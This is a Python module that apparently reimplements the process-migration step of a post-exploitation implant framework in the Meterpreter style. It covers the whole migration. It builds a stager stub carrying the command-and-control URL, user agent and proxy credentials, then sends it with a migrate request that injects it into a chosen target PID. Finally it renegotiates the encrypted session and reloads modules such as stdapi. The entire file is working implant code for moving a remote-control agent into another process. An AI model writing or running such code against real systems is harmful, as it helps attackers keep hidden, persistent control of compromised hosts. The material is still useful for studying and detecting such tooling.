"""
agentcore Migration Orchestrator
Relocates a running agent into another process on the same host while the
controller keeps its session.

Flow:
- Suspend keep-alives and make sure process enumeration is available
- Validate the target and build a platform specific stub
- Send the migrate request, then hand the connection over to the new process
- Re-tag the platform, reload every module, restore keep-alives
"""

import posixpath
import threading
import time
from dataclasses import dataclass
from typing import Any, Dict, Optional

import structlog

from .artifacts import StubFactory
from .config import CoreConfig
from .crypto import random_between, random_lowercase
from .errors import (
    ChannelError,
    FatalSessionError,
    PlatformError,
    ProtocolError,
    ValidationError,
)
from .extensions import ExtensionLoader
from .protocol import (
    CORE_MIGRATE,
    DEFAULT_SOCK_PATH,
    MIGRATE_BASE_ADDR,
    PROCESS_ARCH_X64,
    PROCESS_ARCH_X86,
    TLV_TYPE_MIGRATE_ARCH,
    TLV_TYPE_MIGRATE_BASE_ADDR,
    TLV_TYPE_MIGRATE_ENTRY_POINT,
    TLV_TYPE_MIGRATE_LEN,
    TLV_TYPE_MIGRATE_PAYLOAD,
    TLV_TYPE_MIGRATE_PID,
    TLV_TYPE_MIGRATE_SOCKET_PATH,
    UNIX_PATH_MAX,
)
from .session import AgentSession, Architecture, OSFamily

logger = structlog.get_logger()

PROCESS_MODULE = "stdapi"
DEFAULT_TMP_DIR = "/tmp"


@dataclass
class MigrationPlan:
    pid: int
    process: Dict[str, Any]
    arch: Optional[Architecture]
    stub: bytes = b""
    scratch_dir: Optional[str] = None
    socket_path: Optional[str] = None
    entry_point: Optional[int] = None


class MigrationOrchestrator:
    def __init__(self, session: AgentSession, extensions: ExtensionLoader,
                 stubs: StubFactory, config: Optional[CoreConfig] = None):
        self.session = session
        self.extensions = extensions
        self.stubs = stubs
        self.config = config or CoreConfig()

    def migrate(self, pid: int, writable_dir: Optional[str] = None) -> bool:
        """
        Move the agent into process ``pid``.

        Raises ValidationError/PlatformError before anything is sent to the
        agent, ProtocolError if the agent rejects the request and
        FatalSessionError if the new process never completes renegotiation.
        """
        session = self.session
        keep_alive = session.keep_alive
        session.keep_alive = False
        restore_keep_alive = True

        logger.info("Migration started", pid=pid, platform=session.platform_tag)
        try:
            if PROCESS_MODULE not in session.extensions:
                self.extensions.use(PROCESS_MODULE)

            plan = self.prepare(pid, writable_dir)
            self._send_migrate(plan)
            self._handoff()

            session.retag(session.os_family, plan.arch)

            # The new process starts with nothing loaded
            for name in list(session.extensions):
                self.extensions.use(name)
        except FatalSessionError:
            restore_keep_alive = False
            raise
        finally:
            if restore_keep_alive:
                session.keep_alive = keep_alive

        logger.info("Migration complete", pid=pid, platform=session.platform_tag,
                    modules=len(session.extensions))
        return True

    def prepare(self, pid: int, writable_dir: Optional[str] = None) -> MigrationPlan:
        """Validate the target and build the patched stub, without sending anything."""
        session = self.session
        process = self._find_process(pid)

        # Linux reports no arch even for accessible processes
        if session.os_family is OSFamily.WINDOWS and not process.get("arch"):
            raise ValidationError("Cannot migrate into this process (insufficient privileges)")

        if pid == session.host.get_pid():
            raise ValidationError("Cannot migrate into current process")

        plan = MigrationPlan(pid=pid, process=process,
                             arch=Architecture.parse(process.get("arch")))

        if session.os_family is OSFamily.LINUX:
            plan.scratch_dir = self._scratch_dir(writable_dir)

        plan.stub = self._build_stub(plan)

        if session.os_family is OSFamily.LINUX:
            plan.socket_path = self._rendezvous_path(plan.scratch_dir)
            plan.stub = patch_socket_path(plan.stub, plan.socket_path)
            plan.entry_point = self.stubs.extract_entry_point(plan.stub)

        return plan

    def _find_process(self, pid: int) -> Dict[str, Any]:
        for process in self.session.host.list_processes():
            if process.get("pid") == pid:
                return process
        raise ValidationError("Cannot migrate into non existent process")

    def _scratch_dir(self, writable_dir: Optional[str]) -> str:
        if not writable_dir:
            writable_dir = self.session.host.get_env("TMPDIR") or DEFAULT_TMP_DIR

        try:
            stat = self.session.host.stat(writable_dir)
        except (ChannelError, OSError) as e:
            raise ValidationError(f"Directory {writable_dir} not found") from e
        if stat is None or not stat.is_directory:
            raise ValidationError(f"Directory {writable_dir} not found")
        return writable_dir

    def _build_stub(self, plan: MigrationPlan) -> bytes:
        family = self.session.os_family
        if family is OSFamily.WINDOWS:
            if plan.arch is None:
                raise ValidationError(
                    f"Unsupported target architecture '{plan.process.get('arch')}' "
                    f"for process '{plan.process.get('name')}'"
                )
            patch = self._transport_patch() if self.session.transport.passive else None
            return self.stubs.build_stager_stub(plan.arch, patch)
        if family is OSFamily.LINUX:
            return self.stubs.load_bootstrap()
        raise PlatformError(f"Unsupported platform '{self.session.platform_tag}'")

    def _transport_patch(self) -> Dict[str, Any]:
        transport = self.session.transport
        proxy = transport.proxy
        return {
            "ssl": transport.ssl,
            "url": transport.url,
            "expiration": transport.expiration,
            "comm_timeout": transport.comms_timeout,
            "ua": transport.user_agent,
            "proxy_host": proxy.host if proxy else None,
            "proxy_port": proxy.port if proxy else None,
            "proxy_type": proxy.type if proxy else None,
            "proxy_user": proxy.user if proxy else None,
            "proxy_pass": proxy.password if proxy else None,
        }

    def _rendezvous_path(self, scratch_dir: str) -> str:
        path = posixpath.join(scratch_dir, random_lowercase(random_between(5, 9)))
        if len(path.encode("utf-8")) > UNIX_PATH_MAX - 1:
            raise ValidationError("The writable dir is too long")
        return path

    def _send_migrate(self, plan: MigrationPlan):
        session = self.session
        request = session.create_request(CORE_MIGRATE)

        if plan.socket_path is not None:
            request.add_value(TLV_TYPE_MIGRATE_BASE_ADDR, MIGRATE_BASE_ADDR)
            request.add_value(TLV_TYPE_MIGRATE_ENTRY_POINT, plan.entry_point)
            request.add_value(TLV_TYPE_MIGRATE_SOCKET_PATH, plan.socket_path)

        request.add_value(TLV_TYPE_MIGRATE_PID, plan.pid)
        request.add_value(TLV_TYPE_MIGRATE_LEN, len(plan.stub))
        request.add_value(TLV_TYPE_MIGRATE_PAYLOAD, plan.stub,
                          compress=session.capabilities.zlib)
        arch = PROCESS_ARCH_X64 if plan.arch is Architecture.X64 else PROCESS_ARCH_X86
        request.add_value(TLV_TYPE_MIGRATE_ARCH, arch)

        response = session.send_and_await(request, self.config.migrate_timeout)
        if response is None:
            raise ProtocolError(f"No response was received to the {CORE_MIGRATE} request")
        if response.result != 0:
            raise ProtocolError(f"The {CORE_MIGRATE} request failed with result: {response.result}")

    def _handoff(self):
        session = self.session

        if session.transport.passive:
            # Let the old process exit before the new one starts polling,
            # otherwise it may pick up requests meant for its replacement
            time.sleep(self.config.handoff_grace)
            return

        with session.comm_lock:
            if session.reader is not None:
                session.reader.stop()

            error = self._renegotiate()
            if error is not None:
                session.encryption = None
                session.mark_dead(error)
                raise FatalSessionError(f"Migration handoff failed: {error}")

            if session.reader is not None:
                session.reader.start()

    def _renegotiate(self) -> Optional[str]:
        """Rebuild encryption against the new process; returns an error string on failure."""
        session = self.session
        link = session.link
        outcome: Dict[str, Any] = {}

        def worker():
            try:
                link.swap_to_plain()
                outcome["context"] = link.swap_to_tls()
            except Exception as e:
                outcome["error"] = e

        # The old process's keys are useless to the new one
        session.encryption = None
        thread = threading.Thread(target=worker, name="renegotiate", daemon=True)
        thread.start()
        thread.join(self.config.renegotiate_timeout)

        if thread.is_alive():
            return f"renegotiation timed out after {self.config.renegotiate_timeout}s"
        if "error" in outcome:
            return f"renegotiation failed: {outcome['error']}"
        session.encryption = outcome.get("context")
        return None


def patch_socket_path(stub: bytes, socket_path: str) -> bytes:
    """Overwrite the placeholder rendezvous path in ``stub``; the length is unchanged."""
    placeholder = DEFAULT_SOCK_PATH.encode("ascii")
    pos = stub.find(placeholder)
    if pos < 0:
        raise ValidationError("Corrupt payload: rendezvous placeholder not found")

    replacement = socket_path.encode("utf-8") + b"\x00"
    if pos + len(replacement) > len(stub):
        raise ValidationError("Corrupt payload: no room for rendezvous path")

    patched = bytearray(stub)
    patched[pos:pos + len(replacement)] = replacement
    return bytes(patched)
